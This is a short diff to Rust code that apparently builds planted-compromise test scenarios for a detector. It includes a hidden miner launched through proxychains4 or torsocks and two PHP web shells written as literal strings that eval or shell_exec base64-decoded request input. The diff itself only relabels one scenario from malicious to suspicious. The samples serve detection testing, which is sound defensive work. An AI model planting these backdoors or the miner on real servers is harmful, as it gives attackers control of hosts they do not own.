@@ -45,7 +45,7 @@ pub(crate) fn shapes() -> Vec<Shape> {
                 let entry = s.pick(&["proxychains4", "/opt/.a/work"][..], &["torsocks", "/opt/.a/work"][..]);
                 Planted::debian().script("opt/.a/work", crate::programs::miner(s)).entry(entry)
             }),
-            malicious("shell behind a web page", |s| {
+            suspicious("shell behind a web page", |s| {
                 let (path, page) = s.pick(
                 ("var/www/html/img.php", "<?php @eval(base64_decode($_POST['x'])); ?>\n"),
                 ("var/www/html/wp-content/c.php", "<?php if(isset($_REQUEST['c'])){ echo shell_exec(base64_decode($_REQUEST['c'])); } ?>\n"),
